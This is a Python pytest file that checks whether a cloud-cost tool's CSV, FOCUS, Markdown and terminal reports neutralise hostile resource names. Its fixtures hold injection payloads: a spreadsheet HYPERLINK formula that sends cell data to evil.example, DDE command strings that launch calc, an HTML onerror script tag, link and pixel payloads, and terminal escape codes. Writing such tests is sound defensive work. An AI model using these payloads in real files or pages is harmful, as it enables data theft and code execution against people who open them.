"""Resource data cannot inject into reports: no spreadsheet formula in CSV or FOCUS, no HTML,
image or link in the Markdown meant for PR comments, no escape sequence in terminal output."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from pathlib import Path

import pytest

from cloudwright.optimizer.catalog import Catalog
from cloudwright.pricing import estimate
from cloudwright.pricing.report import CostReport
from cloudwright.reports import safe
from cloudwright.reports.csv_out import render_csv
from cloudwright.reports.diff import diff_reports
from cloudwright.reports.diff import render_markdown as diff_markdown
from cloudwright.reports.focus import render_focus
from cloudwright.reports.markdown import render_markdown
from cloudwright.reports.table import render_text
from cloudwright.resource_graph.load import load_graph

FLEET = Path(__file__).parent / "golden" / "graphs" / "fleet.graph.json"
ATTACKS = {
    "llm-pretrain-fsx": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "egress-nat": "+cmd|' /C calc'!A0",
    "llm-pretrain-asg": "@SUM(1+1)*cmd|' /C calc'!A0",
}
MARKDOWN_ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "<details open>x</details>",
    "![pixel](http://evil.example/p.png)",
    "[click](http://evil.example)",
    "`code` | breaks | table",
    "\x1b[31mred\x1b[0m\x07",
]


@pytest.fixture(scope="module")
def hostile(fixture_catalog: Catalog) -> CostReport:
    graph = load_graph(FLEET)
    names = iter([*ATTACKS.values(), *MARKDOWN_ATTACKS])
    resources = []
    for r in graph.resources:
        if r.name in ATTACKS or (r.name.startswith("llm") and r.custom):
            r = replace(r, name=next(names, r.name))
        resources.append(r)
    return estimate(replace(graph, resources=resources), fixture_catalog)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("render", [render_csv, render_focus])
def test_no_cell_starts_like_a_formula(hostile: CostReport, render: object) -> None:
    cells = _cells(render(hostile))  # type: ignore[operator]
    assert any(c.startswith(("'=", "'+", "'@")) for c in cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell)  # only numbers may start with a minus


def test_markdown_renders_names_as_literal_text(hostile: CostReport) -> None:
    text = render_markdown(hostile) + diff_markdown(diff_reports(hostile, hostile))
    for bad in ("<img", "<details open", "\x1b", "\x07"):
        assert bad not in text
    assert not re.search(r"(?<!\\)\]\(http", text)  # a link needs an unescaped "]("
    assert "&lt;img src=x onerror=alert(1)&gt;" in text


def test_terminal_output_has_no_escape_sequences(hostile: CostReport) -> None:
    text = render_text(hostile)
    assert "\x1b" not in text and "\x07" not in text and "red" in text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("plain", "plain"),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_csv_cell(value: object, expected: object) -> None:
    assert safe.csv_cell(value) == expected


def test_code_span_cannot_be_closed_early() -> None:
    assert safe.code_span("a`b") == "`a'b`"
